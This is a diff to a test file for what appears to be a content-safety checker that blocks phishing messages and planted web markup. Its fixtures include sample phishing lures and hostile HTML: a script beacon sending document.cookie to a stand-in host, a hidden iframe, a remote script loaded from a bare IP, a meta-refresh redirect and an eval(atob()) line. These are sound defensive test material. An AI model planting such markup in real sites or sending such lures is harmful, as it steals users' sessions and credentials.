@@ -46,6 +46,19 @@ def test_a_message_claiming_account_trouble_with_a_bait_link_blocks(text, url):
     assert "block.typed.phishing-message" in fired(got)
 
 
+def test_a_claim_that_asks_for_what_opens_the_account_blocks_without_a_link():
+    got = assess("Payment declined on your Contoso order. Please send us your card number and the code we sent to "
+                 "release it.", "Reply", MAIL)
+    assert got.decision is Decision.BLOCK
+    assert "block.typed.phishing-message" in fired(got)
+
+
+def test_a_claim_that_gives_a_number_to_call_asks():
+    got = assess("Suspicious activity on your account! Call our fraud desk now: +1 (800) 555-0137", "Message", CHAT)
+    assert got.decision is not Decision.ALLOW
+    assert "confirm.typed.phishing-message" in fired(got)
+
+
 def test_a_claim_that_sends_the_reader_to_another_site_asks():
     got = assess("Your password expires today. Please sign in at https://id.fabrikam-corp.example/ to change it",
                  "Body", MAIL)
@@ -133,6 +146,8 @@ GHOST = "https://blog.example.net/ghost/#/settings/code-injection"
     ("<script src=//198.51.100.23/t.js></script>", "Header scripts", WP_EDITOR),
     ("<script>new Image().src='https://c.example-stats.xyz/p?c='+document.cookie</script>"
      '<iframe src="https://x.example-stats.xyz/" width="0" height="0"></iframe>', "Custom HTML", WP_EDITOR),
+    ('<meta http-equiv="refresh" content="0; url=https://prize-claim.example-win.top/">'
+     "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='))</script>", "Code injection", GHOST),
 ])
 def test_planted_markup_that_mines_or_steals_blocks(text, label, url):
     got = assess(text, label, url)
